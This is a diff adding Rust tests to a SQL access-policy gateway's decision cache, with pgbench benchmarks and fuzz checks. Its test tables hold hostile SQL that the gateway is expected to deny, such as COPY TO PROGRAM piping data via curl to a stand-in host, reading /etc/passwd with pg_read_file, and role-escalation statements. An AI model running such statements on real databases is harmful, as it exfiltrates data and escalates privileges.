@@ -505,23 +505,35 @@ fn shipped_policies_are_valid() {
     assert!(e.describe().contains("analysts-read"));
 }
 
-/// A cached decision must be cheap. Generous bound so a loaded CI machine does not flake; the
-/// `--ignored` benchmark below prints the real number.
+/// A repeated decision is answered from the cache: one analysis, then hits returning the same
+/// memoized verdict. (How fast that is: `cargo xtask bench`, `bench_decide` and the callgrind
+/// loops below — no timing in tests.)
 #[test]
-fn cached_decide_is_cheap() {
+fn cached_decide_hits_the_cache() {
     let p = example();
     let who = id("alice", A);
     let sql = "SELECT o.id, o.total FROM orders o JOIN items i ON i.order_id = o.id WHERE o.id = $1";
     let now = noon();
     let first = p.decide(&who, "app", sql, now);
-    let n = 20_000;
-    let start = std::time::Instant::now();
-    for _ in 0..n {
+    assert_eq!(p.cache_stats(), CacheStats { analyses: 1, ..Default::default() });
+    for _ in 0..1000 {
         let v = p.decide(&who, "app", sql, now);
         assert!(Arc::ptr_eq(&v, &first));
     }
-    let per = start.elapsed() / n;
-    assert!(per < std::time::Duration::from_micros(20), "cached decide took {per:?}");
+    assert_eq!(p.cache_stats(), CacheStats { analyses: 1, exact_hits: 1000, ..Default::default() });
+
+    // Texts that differ only in literal values: one analysis, one memoized verdict.
+    let first = p.decide(&who, "app", "SELECT abalance FROM pgbench_accounts WHERE aid = 1;", now);
+    for aid in 2..=1000 {
+        let v = p.decide(&who, "app", &format!("SELECT abalance FROM pgbench_accounts WHERE aid = {aid};"), now);
+        assert!(Arc::ptr_eq(&v, &first), "aid {aid}");
+    }
+    assert_eq!(
+        p.cache_stats(),
+        CacheStats { analyses: 2, shared: 1, exact_hits: 1000, normalized_hits: 999 },
+        "{:?}",
+        p.cache_stats()
+    );
 }
 
 #[test]
@@ -538,11 +550,20 @@ fn bench_decide() {
         std::hint::black_box(p.decide(&who, "app", sql, now));
     }
     println!("cached decide: {:?}/call", start.elapsed() / n);
+    // Distinct texts (an alias, not a literal, varies): every decide parses.
     let start = std::time::Instant::now();
     for i in 0..10_000u32 {
-        std::hint::black_box(p.decide(&who, "app", &format!("{sql} AND i.n = {i}"), now));
+        std::hint::black_box(p.decide(&who, "app", &format!("{sql} AND i.n = i.c{i}"), now));
     }
     println!("uncached decide (parse): {:?}/call", start.elapsed() / 10_000);
+    // pgbench -S in simple-protocol mode: only the literal varies (literal-normalized hits).
+    let texts: Vec<String> =
+        (0..100_000u32).map(|i| format!("SELECT abalance FROM pgbench_accounts WHERE aid = {};", i * 7 + 1)).collect();
+    let start = std::time::Instant::now();
+    for t in &texts {
+        std::hint::black_box(p.decide(&who, "app", t, now));
+    }
+    println!("literal-varying decide (normalized hit): {:?}/call", start.elapsed() / texts.len() as u32);
 }
 
 #[test]
@@ -565,4 +586,532 @@ fn command_names() {
     assert_eq!(cmd("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2"), ["explain", "update"]);
     assert_eq!(cmd("CHECKPOINT"), ["checkpoint"]);
     assert_eq!(cmd("DO $$ BEGIN NULL; END $$"), ["do"]);
+}
+
+/// pgbench-style statement texts with varying literals: `-S` (select-only) and the TPC-B-like
+/// script (each statement a separate Query, as pgbench sends them in simple mode).
+fn pgbench_texts(n: usize) -> (Vec<String>, Vec<String>) {
+    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+    let mut next = |m: u64| {
+        // xorshift: deterministic, no dependency
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        x % m
+    };
+    let select: Vec<String> =
+        (0..n).map(|_| format!("SELECT abalance FROM pgbench_accounts WHERE aid = {};", next(1_000_000) + 1)).collect();
+    let mut tpcb = Vec::with_capacity(n);
+    while tpcb.len() < n {
+        let (aid, bid, tid) = (next(1_000_000) + 1, next(10) + 1, next(100) + 1);
+        let delta = next(10_001) as i64 - 5000;
+        for s in [
+            "BEGIN;".to_string(),
+            format!("UPDATE pgbench_accounts SET abalance = abalance + {delta} WHERE aid = {aid};"),
+            format!("SELECT abalance FROM pgbench_accounts WHERE aid = {aid};"),
+            format!("UPDATE pgbench_tellers SET tbalance = tbalance + {delta} WHERE tid = {tid};"),
+            format!("UPDATE pgbench_branches SET bbalance = bbalance + {delta} WHERE bid = {bid};"),
+            format!(
+                "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ({tid}, {bid}, {aid}, {delta}, CURRENT_TIMESTAMP);"
+            ),
+            "END;".to_string(),
+        ] {
+            if tpcb.len() < n {
+                tpcb.push(s);
+            }
+        }
+    }
+    (select, tpcb)
+}
+
+/// The measured loop (callgrind: `--toggle-collect='*callgrind_decide_loop*'`).
+#[inline(never)]
+fn callgrind_decide_loop(p: &Policy, who: &Identity, texts: &[String], now: DateTime<Utc>) -> usize {
+    texts.iter().filter(|t| p.decide(who, "app", t, now).is_allowed()).count()
+}
+
+/// Instruction counts, not time: 10,000 decides of pgbench statements with varying literals
+/// (default policy, cold cache), under callgrind:
+///
+/// ```sh
+/// cargo test --release -p gateway-user --lib policy::tests::callgrind_pgbench -- --ignored --exact
+/// valgrind --tool=callgrind --callgrind-out-file=/tmp/cg.out --toggle-collect='*callgrind_decide_loop*' \
+///     target/release/deps/pgward-<hash> policy::tests::callgrind_pgbench_select --ignored --exact
+/// ```
+///
+/// The "Collected" count divided by 10,000 is the cost of one decide. `_tpcb` does the same
+/// with the TPC-B-like script.
+#[test]
+#[ignore]
+fn callgrind_pgbench_select() {
+    let p = default_policy();
+    let (select, _) = pgbench_texts(10_000);
+    assert_eq!(callgrind_decide_loop(&p, &id("alice", &["app"]), &select, noon()), select.len());
+}
+
+#[test]
+#[ignore]
+fn callgrind_pgbench_tpcb() {
+    let p = default_policy();
+    let (_, tpcb) = pgbench_texts(10_000);
+    assert_eq!(callgrind_decide_loop(&p, &id("alice", &["app"]), &tpcb, noon()), tpcb.len());
+}
+
+// ---------------------------------------------------------------------------------------------
+// The literal-normalized cache: texts that differ only in literal values share an analysis
+// only when it cannot depend on the values.
+
+/// Everything a verdict says except the statements' `text` (which, for a shared analysis, is
+/// the first text's).
+fn verdict_shape(v: &Verdict) -> String {
+    let stmts: Vec<String> = v
+        .statements
+        .iter()
+        .map(|s| {
+            let mut i = (*s.info).clone();
+            i.text.clear();
+            format!("{} {:?} {:?} {i:?}", s.decision, s.rule, s.reason)
+        })
+        .collect();
+    format!(
+        "{} {:?} {:?} {:?} unparsable={} n={} {stmts:?}",
+        v.decision, v.rule, v.reason, v.classes, v.unparsable, v.statement_count
+    )
+}
+
+/// (policy, groups, time, text a, its rule, text b, its rule, whether a and b share one analysis)
+type Pair = (P, &'static [&'static str], T, &'static str, &'static str, &'static str, &'static str, bool);
+
+#[rustfmt::skip]
+const PAIRS: &[Pair] = &[
+    // set_config: the setting's name and value are literals
+    (Ex, A, Noon, "SELECT set_config('role', 'admin', false)", "builtin:identity-change", "SELECT set_config('work_mem', '64MB', false)", "analysts-read", false),
+    (Ex, A, Noon, "SELECT set_config('role', 'admin', false)", "builtin:identity-change", "SELECT set_config('role', 'app', false)", "builtin:identity-change", false),
+    (Ex, A, Noon, "select pg_catalog.set_config('search_path', 'hr', true)", "analysts-no-search-path", "select pg_catalog.set_config('statement_timeout', '10', true)", "analysts-read", false),
+    // setting values are literals
+    (Ex, A, Noon, "SET standard_conforming_strings TO 'on'", "analysts-read", "SET standard_conforming_strings TO 'no'", "builtin:protected-setting", false),
+    (Ex, A, Noon, "SET client_encoding TO 'UTF8'", "analysts-read", "SET client_encoding TO 'SJIS'", "builtin:protected-setting", false),
+    (Ex, A, Noon, "SET NAMES 'utf8'", "analysts-read", "SET NAMES 'big5'", "builtin:protected-setting", false),
+    (Ex, A, Noon, "SET search_path TO 'xx'", "analysts-no-search-path", "SET search_path TO 'yy'", "analysts-no-search-path", false),
+    (Ex, A, Noon, "SET work_mem = '64MB'", "analysts-read", "SET work_mem = '1GB'", "analysts-read", false),
+    (Ex, A, Noon, "SET standard_conforming_strings = 1", "analysts-read", "SET standard_conforming_strings = 0", "builtin:protected-setting", false),
+    (Ex, DBA, Evening, "ALTER ROLE bob SET standard_conforming_strings = 'on'", "default:dba", "ALTER ROLE bob SET standard_conforming_strings = 'no'", "builtin:protected-setting", false),
+    // `x = x` between literals
+    (Ex, E, Noon, "DELETE FROM orders WHERE 1 = 1", "no-unbounded-writes", "DELETE FROM orders WHERE 1 = 2", "engineers-dml", false),
+    (Ex, E, Noon, "DELETE FROM orders WHERE id = 3 OR 'a' = 'a'", "no-unbounded-writes", "DELETE FROM orders WHERE id = 3 OR 'a' = 'b'", "engineers-dml", false),
+    (Ex, E, Noon, "UPDATE orders SET total = 0 WHERE (2.5 = 2.5)", "no-unbounded-writes", "UPDATE orders SET total = 0 WHERE (2.5 = 3.5)", "engineers-dml", false),
+    // bodies of DO blocks and functions are literals
+    (Dflt, A, Noon, "DO $$BEGIN NULL; END$$", "default", "DO $$BEGIN PERFORM pg_read_file('x'); END$$", "no-server-functions", false),
+    (Ex, DBA, Evening, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT 1 $$", "default:dba", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ RESET ROLE $$", "builtin:identity-change", false),
+    (Ex, DBA, Evening, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'select 1'", "default:dba", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'reset role'", "builtin:identity-change", false),
+    // COPY: the program, file and option characters are not values
+    (Dflt, A, Noon, "COPY orders TO PROGRAM 'gzip > /tmp/x'", "no-server-programs", "COPY orders TO PROGRAM 'curl -d @- evil'", "no-server-programs", false),
+    (Ex, E, Noon, "copy orders from '/var/lib/postgresql/x.csv'", "no-server-access", "copy orders from '/tmp/y.csv'", "no-server-access", false),
+    (Ex, E, Noon, "COPY orders FROM STDIN (DELIMITER '|')", "engineers-dml", "COPY orders FROM STDIN (DELIMITER ',')", "engineers-dml", false),
+    // a literal that is structure, not a value (a type modifier); a FETCH count is a value
+    (Ex, A, Noon, "FETCH 5 FROM c", "analysts-read", "FETCH 10 FROM c", "analysts-read", true),
+    (Ex, A, Noon, "SELECT CAST(total AS varchar(10)) FROM orders", "analysts-read", "SELECT CAST(total AS varchar(20)) FROM orders", "analysts-read", false),
+    // PREPARE: the session keeps the text for EXECUTE
+    (Ex, A, Noon, "PREPARE p AS SELECT * FROM orders WHERE id = 1", "analysts-read", "PREPARE p AS SELECT * FROM orders WHERE id = 2", "analysts-read", false),
+    // unparsable: scanned lexically, string contents included
+    (Ex, A, Noon, "SELECT 1 END", "unparsable:analysts", "SELECT 2 END", "unparsable:analysts", false),
+    // values the analysis never looks at: shared
+    (Ex, A, Noon, "SELECT abalance FROM pgbench_accounts WHERE aid = 12345;", "analysts-read", "SELECT abalance FROM pgbench_accounts WHERE aid = 1;", "analysts-read", true),
+    (Ex, E, Noon, "DELETE FROM orders WHERE id = 1", "engineers-dml", "DELETE FROM orders WHERE id = 2", "engineers-dml", true),
+    (Ex, E, Noon, "UPDATE orders SET total = total + -5 WHERE id = 7", "engineers-dml", "UPDATE orders SET total = total + -500 WHERE id = 8", "engineers-dml", true),
+    (Ex, A, Noon, "SELECT * FROM orders WHERE note = 'x' LIMIT 10", "analysts-read", "SELECT * FROM orders WHERE note = 'y' LIMIT 20", "analysts-read", true),
+    (Ex, A, Noon, "SELECT * FROM orders WHERE note = 'orders'", "analysts-read", "SELECT * FROM orders WHERE note = 'hr.salaries'", "analysts-read", true),
+    // functions and tables named in strings are invisible to the policy either way
+    (Ex, A, Noon, "SELECT 'orders'::regclass", "analysts-read", "SELECT 'hr.salaries'::regclass", "analysts-read", true),
+    (Ex, A, Noon, "SELECT nextval('s1')", "analysts-read", "SELECT nextval('hr.seq')", "analysts-read", true),
+    (Ex, A, Noon, "SELECT pg_read_file('/etc/passwd')", "no-dangerous-functions", "SELECT pg_read_file('/tmp/x')", "no-dangerous-functions", true),
+    (Ex, A, Noon, "EXECUTE q(1)", "default:analysts", "EXECUTE q(2)", "default:analysts", true),
+    (Ex, E, Noon, "UPDATE pg_settings SET setting = 'dba' WHERE name = 'role'", "builtin:identity-change", "UPDATE pg_settings SET setting = 'xy' WHERE name = 'work_mem'", "builtin:identity-change", true),
+    (Ex, A, Noon, "SELECT 1; SELECT 2", "analysts-single-statement", "SELECT 3; SELECT 4", "analysts-single-statement", true),
+];
+
+/// Pairs with one normalized key but possibly different verdicts: each gets its own correct
+/// verdict (the fresh, uncached one) in either order, and they share an analysis exactly when
+/// expected.
+#[test]
+fn literal_dependent_pairs_get_their_own_verdicts() {
+    let mut failures = Vec::new();
+    for (i, (pk, groups, t, a, rule_a, b, rule_b, shared)) in PAIRS.iter().enumerate() {
+        let key = |s: &str| normalize::normalize(s).map(|n| n.key);
+        if key(a).is_none() || key(a) != key(b) {
+            failures.push(format!("pair {i}: {a:?} and {b:?} do not share a normalized key"));
+            continue;
+        }
+        let now = match t {
+            Noon => noon(),
+            Evening => evening(),
+        };
+        let who = id("alice", groups);
+        for (first, second) in [((a, rule_a), (b, rule_b)), ((b, rule_b), (a, rule_a))] {
+            let p = match pk {
+                Ex => example(),
+                Dflt => default_policy(),
+            };
+            for (sql, rule) in [first, second] {
+                let got = p.decide(&who, "app", sql, now);
+                let want = p.decide_uncached(&who, "app", sql, now, None);
+                if got.rule != **rule || want.rule != **rule {
+                    failures.push(format!(
+                        "pair {i}: {sql:?}: want rule {rule:?}, cached {:?}, uncached {:?}",
+                        got.rule, want.rule
+                    ));
+                }
+                if verdict_shape(&got) != verdict_shape(&want) {
+                    failures.push(format!(
+                        "pair {i}: {sql:?}:\n cached   {}\n uncached {}",
+                        verdict_shape(&got),
+                        verdict_shape(&want)
+                    ));
+                }
+            }
+            let st = p.cache_stats();
+            let want_stats = if *shared {
+                CacheStats { analyses: 1, shared: 1, normalized_hits: 1, exact_hits: 0 }
+            } else {
+                CacheStats { analyses: 2, shared: 0, normalized_hits: 0, exact_hits: 0 }
+            };
+            if st != want_stats {
+                failures.push(format!("pair {i}: {first:?} then {second:?}: cache {st:?}, want {want_stats:?}"));
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// COPY to a program and to STDOUT have different keys (PROGRAM is not a literal) and their
+/// own verdicts.
+#[test]
+fn copy_program_and_plain_copy() {
+    let p = default_policy();
+    let who = id("alice", A);
+    let texts = [
+        ("COPY orders TO STDOUT", Allow),
+        ("COPY orders TO PROGRAM 'gzip > /tmp/x'", Deny),
+        ("COPY orders TO '/tmp/x'", Deny),
+        ("COPY (SELECT 1) TO STDOUT", Allow),
+        ("COPY (SELECT 2) TO PROGRAM 'id'", Deny),
+    ];
+    for _ in 0..2 {
+        for (sql, want) in texts {
+            assert_eq!(p.decide(&who, "app", sql, noon()).decision, want, "{sql}");
+        }
+    }
+}
+
+/// Literal values that make analyses differ if anything reads them, by the kind and size class
+/// of the literal they replace.
+fn battery(kind: u8, class: u8) -> &'static [&'static str] {
+    match (kind, class) {
+        (b's', b'0') => &["''"],
+        (b's', b'1') => &["'x'", "'1'", "'0'", "'t'", "'|'", "'f'"],
+        (b's', _) => &[
+            "'role'",
+            "'off'",
+            "'on'",
+            "'big5'",
+            "'sjis'",
+            "'UTF8'",
+            "'search_path'",
+            "'session_authorization'",
+            "'standard_conforming_strings'",
+            "'hr.salaries'",
+            "'pg_read_file'",
+            "'reset role'",
+            "'select pg_read_file(1)'",
+            "'default'",
+            "'no'",
+            "'yes'",
+            "'DROP TABLE orders'",
+        ],
+        (b'e', b'0') => &["E''"],
+        (b'e', b'1') => &["E'x'", "E'1'"],
+        (b'e', _) => &["E'role'", "E'off'", "E'reset role'", "E'big5'"],
+        (b'd', _) => &[
+            "$$ RESET ROLE $$",
+            "$$ BEGIN PERFORM pg_read_file('x'); END $$",
+            "$$ BEGIN NULL; END $$",
+            "$q$ set role x $q$",
+            "$$$$",
+        ],
+        (b'i', _) => &["0", "1", "2", "42", "2147483647"],
+        (b'f', _) => &["1.0", "2.5", "0.0"],
+        (b'b', b'0') | (b'x', b'0') | (b'n', b'0') => &["B''", "X''", "N''"],
+        (b'b', b'1') | (b'x', b'1') | (b'n', b'1') => &["B'1'", "X'F'", "N'x'"],
+        (b'b', _) => &["B'1010'"],
+        (b'x', _) => &["X'FFFF'"],
+        (b'n', _) => &["N'role'", "N'off'"],
+        _ => &[],
+    }
+}
+
+/// Variants of `sql` with the same normalized key: each literal replaced by values from the
+/// battery (different ones per variant), and one where every literal of a kind is the same.
+fn variants(sql: &str) -> Vec<String> {
+    let Some(n) = normalize::normalize(sql) else { return Vec::new() };
+    // kind and class of each literal, from the key's placeholders
+    let kinds: Vec<(u8, u8)> = n.key.as_bytes().windows(3).filter(|w| w[0] == 0).map(|w| (w[1], w[2])).collect();
+    assert_eq!(kinds.len(), n.literals.len(), "{sql:?}");
+    let mut out = Vec::new();
+    for v in 0..12usize {
+        let mut s = String::new();
+        let mut at = 0;
+        for (j, (r, (kind, class))) in n.literals.iter().zip(&kinds).enumerate() {
+            let values = battery(*kind, *class);
+            s.push_str(&sql[at..r.start]);
+            // v == 0: every literal gets the first value of its battery (so `a = b` compares
+            // equal values); otherwise they vary with the literal's position.
+            let pick = if v == 0 { 0 } else { v * 7 + j * 3 };
+            match values.get(pick % values.len().max(1)) {
+                Some(x) => s.push_str(x),
+                None => s.push_str(&sql[r.clone()]),
+            }
+            at = r.end;
+        }
+        s.push_str(&sql[at..]);
+        out.push(s);
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Corpus of texts: the decision table, the classification table, the pairs above, pgbench's
+/// statements and some more literal-heavy ones.
+fn corpus() -> Vec<(P, &'static [&'static str], T, String)> {
+    let mut out: Vec<(P, &'static [&'static str], T, String)> = Vec::new();
+    for (p, g, _, t, sql, _, _) in CASES {
+        out.push((*p, g, *t, sql.to_string()));
+    }
+    for (sql, _, _) in CLASSES {
+        out.push((Ex, E, Noon, sql.to_string()));
+        out.push((Dflt, A, Noon, sql.to_string()));
+    }
+    for (p, g, t, a, _, b, _, _) in PAIRS {
+        out.push((*p, g, *t, a.to_string()));
+        out.push((*p, g, *t, b.to_string()));
+    }
+    let (select, tpcb) = pgbench_texts(14);
+    for sql in select.into_iter().chain(tpcb) {
+        out.push((Ex, E, Noon, sql.clone()));
+        out.push((Dflt, A, Noon, sql));
+    }
+    #[rustfmt::skip]
+    let more: &[&str] = &[
+        "SELECT * FROM orders WHERE id IN (1, 2, 3) AND note LIKE 'a%' ESCAPE '!'",
+        "SELECT id, 'x' AS label, 1.5 * total FROM orders ORDER BY 2 DESC LIMIT 10 OFFSET 5",
+        "INSERT INTO orders (id, note) VALUES (1, 'it''s'), (2, E'tab'), (3, $$dollar$$) RETURNING id",
+        "UPDATE orders SET note = 'x' WHERE id = 1 AND 'a' = 'a'",
+        "DELETE FROM orders WHERE 'role' = 'role'",
+        "SELECT set_config('role', 'x', false), set_config('work_mem', '1MB', false)",
+        "SELECT current_setting('role')",
+        "SET TIME ZONE 'UTC'",
+        "SET LOCAL statement_timeout = 5000",
+        "SET SESSION AUTHORIZATION 'postgres'",
+        "SET ROLE 'dba'",
+        "SELECT pg_sleep(1), now() - interval '1 day', DATE '2025-01-01'",
+        "SELECT * FROM generate_series(1, 10) g(i) WHERE i > 5",
+        "COPY (SELECT * FROM orders WHERE id = 5) TO STDOUT WITH (FORMAT csv, HEADER true)",
+        "COPY orders TO STDOUT (FORMAT csv, DELIMITER ';', NULL 'n/a')",
+        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE NOWAIT",
+        "NOTIFY jobs, 'payload 1'",
+        "SELECT pg_notify('jobs', 'x')",
+        "DO $$BEGIN EXECUTE 'set role postgres'; END$$",
+        "DO LANGUAGE plpgsql 'BEGIN NULL; END'",
+        "CREATE TABLE t (id int DEFAULT 5, n numeric(10, 2), c varchar(20) DEFAULT 'x')",
+        "ALTER TABLE orders ALTER COLUMN note SET DEFAULT 'none'",
+        "COMMENT ON TABLE orders IS 'the orders'",
+        "CREATE ROLE bob PASSWORD 'secret'",
+        "ALTER ROLE bob SET search_path = 'hr'",
+        "ALTER DATABASE app SET standard_conforming_strings TO 'on'",
+        "SELECT * FROM dblink('dbname=app', 'select 1') AS t(x int)",
+        "SELECT query_to_xml('select * from hr.salaries', true, false, '')",
+        "SELECT 1 WHERE 'a' = 'a'; DELETE FROM orders WHERE 2 = 2",
+        "COPY orders FROM STDIN;\nDELETE FROM orders WHERE 1 = 1",
+        "EXPLAIN ANALYZE DELETE FROM orders WHERE 7 = 7",
+        "WITH d AS (DELETE FROM orders WHERE 'x' = 'x' RETURNING *) SELECT * FROM d",
+        "SELECT $1::int + 5, 'a' || $2",
+        "SELECT E'\\x41', X'41', B'01', 7",
+        "SELECT \"1\" FROM orders WHERE \"1\" = 1",
+        "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1 AND total > 100",
+        "EXECUTE q(5, 'x')",
+        "FETCH FORWARD 10 FROM c",
+        "SELECT * FROM orders FETCH FIRST 5 ROWS ONLY",
+        "VALUES (1, 'a'), (2, 'b')",
+        "CALL refresh(1, 'x')",
+        "SELECT 1 END",
+        "SELECT pg_read_file('x') !!! ((",
+        "CHECKPOINT",
+        "VACUUM (ANALYZE) orders",
+    ];
+    for sql in more {
+        for (p, g) in [(Ex, A), (Ex, E), (Ex, DBA), (Dflt, A), (Dflt, ADM)] {
+            out.push((p, g, Noon, sql.to_string()));
+        }
+    }
+    out
+}
+
+/// The analysis itself: whenever a text's analysis is marked shareable, every variant of the
+/// text with other literal values (chosen to matter if anything read them) is analyzed the
+/// same, statement for statement (all fields but `text`). This is what makes the shared cache
+/// sound; it checks the literal-dependence bookkeeping mechanically, not from a list.
+#[test]
+fn shareable_analyses_do_not_depend_on_literal_values() {
+    let mut failures = Vec::new();
+    let mut shareable_texts = 0;
+    let shape = |infos: &[StatementInfo]| -> String {
+        infos
+            .iter()
+            .map(|i| {
+                let mut i = i.clone();
+                i.text.clear();
+                format!("{i:?}")
+            })
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    for (_, _, _, sql) in corpus() {
+        let Some(n) = normalize::normalize(&sql) else { continue };
+        let (infos, shareable) = analyze::analyze_sql_with(&sql, Some(&n));
+        if !shareable {
+            continue;
+        }
+        shareable_texts += 1;
+        for v in variants(&sql) {
+            let nv = normalize::normalize(&v);
+            if nv.as_ref().map(|x| &x.key) != Some(&n.key) {
+                failures.push(format!("{sql:?}: variant {v:?} has another key"));
+                continue;
+            }
+            let (vinfos, _) = analyze::analyze_sql_with(&v, nv.as_ref());
+            if shape(&infos) != shape(&vinfos) {
+                failures.push(format!(
+                    "{sql:?} shared, but {v:?} is analyzed differently:\n{}\n---\n{}",
+                    shape(&infos),
+                    shape(&vinfos)
+                ));
+            }
+        }
+    }
+    assert!(shareable_texts >= 50, "only {shareable_texts} shareable texts");
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+/// Whole verdicts: for every corpus text, a policy whose cache was warmed with variants of the
+/// text (other literal values) decides it exactly like a fresh, uncached analysis — decision,
+/// rule, reason, classes, unparsable, statement count and every statement's analysis. Also
+/// with the prepared-statement lookup, and for a JIT-style identity.
+#[test]
+fn normalized_path_decides_like_a_fresh_parse() {
+    let ex = example();
+    let df = default_policy();
+    let prepared = |n: &str| (n == "q").then(|| "SELECT * FROM orders WHERE id = $1".to_string());
+    let mut failures = Vec::new();
+    let mut compared = 0;
+    for (pk, groups, t, sql) in corpus() {
+        let p = match pk {
+            Ex => &ex,
+            Dflt => &df,
+        };
+        let now = match t {
+            Noon => noon(),
+            Evening => evening(),
+        };
+        let who = id("alice", groups);
+        for v in variants(&sql) {
+            p.decide(&who, "app", &v, now);
+        }
+        let got = p.decide(&who, "app", &sql, now);
+        let want = p.decide_uncached(&who, "app", &sql, now, None);
+        let got_l = p.decide_with_prepared(&who, "app", &sql, now, &prepared);
+        let want_l = p.decide_uncached(&who, "app", &sql, now, Some(&prepared));
+        compared += 1;
+        for (g, w, what) in [(&*got, &want, "decide"), (&*got_l, &want_l, "with prepared")] {
+            if verdict_shape(g) != verdict_shape(w) {
+                failures.push(format!(
+                    "{pk:?} {groups:?} {sql:?} ({what}):\n cached   {}\n uncached {}",
+                    verdict_shape(g),
+                    verdict_shape(w)
+                ));
+            }
+        }
+    }
+    assert!(compared > 300, "{compared}");
+    let st = ex.cache_stats();
+    assert!(st.normalized_hits > 100 && st.shared > 20, "{st:?}");
+    assert!(failures.is_empty(), "{} differences:\n{}", failures.len(), failures.join("\n"));
+}
+
+/// Random statement-like soup through the whole decide path (normalizer, analysis, span
+/// check, cache): nothing panics, and the cached verdict matches a fresh one.
+#[test]
+fn garbage_through_decide() {
+    let p = Policy::builtin_only();
+    let who = id("u", NONE);
+    let pieces: &[&str] = &[
+        "SELECT",
+        "FROM",
+        "t",
+        "WHERE",
+        "=",
+        "1",
+        "'a'",
+        "E'b'",
+        "$$c$$",
+        "(",
+        ")",
+        ",",
+        ";",
+        "--x\n",
+        "/*y*/",
+        "\"q\"",
+        "set_config",
+        "SET",
+        "role",
+        "TO",
+        "COPY",
+        "PROGRAM",
+        "DO",
+        "-",
+        "2.5",
+        "::int",
+        "$1",
+        "'",
+        "\"",
+        "$",
+        "END",
+        "UPDATE",
+        "DELETE",
+        "1 = 1",
+        "x",
+        "OR",
+        "B'1'",
+        "X'F'",
+        "U&'x'",
+        "\\",
+        "é",
+        "\r",
+        ".",
+        "*",
+    ];
+    let mut x: u64 = 0x0123_4567_89ab_cdef;
+    let mut rnd = move || {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        x
+    };
+    for _ in 0..3000 {
+        let n = (rnd() % 12) as usize;
+        let sql: Vec<&str> = (0..n).map(|_| pieces[(rnd() as usize) % pieces.len()]).collect();
+        let sql = sql.join(if rnd() % 2 == 0 { " " } else { "" });
+        let got = p.decide(&who, "db", &sql, noon());
+        let want = p.decide_uncached(&who, "db", &sql, noon(), None);
+        assert_eq!(verdict_shape(&got), verdict_shape(&want), "{sql:?}");
+    }
 }
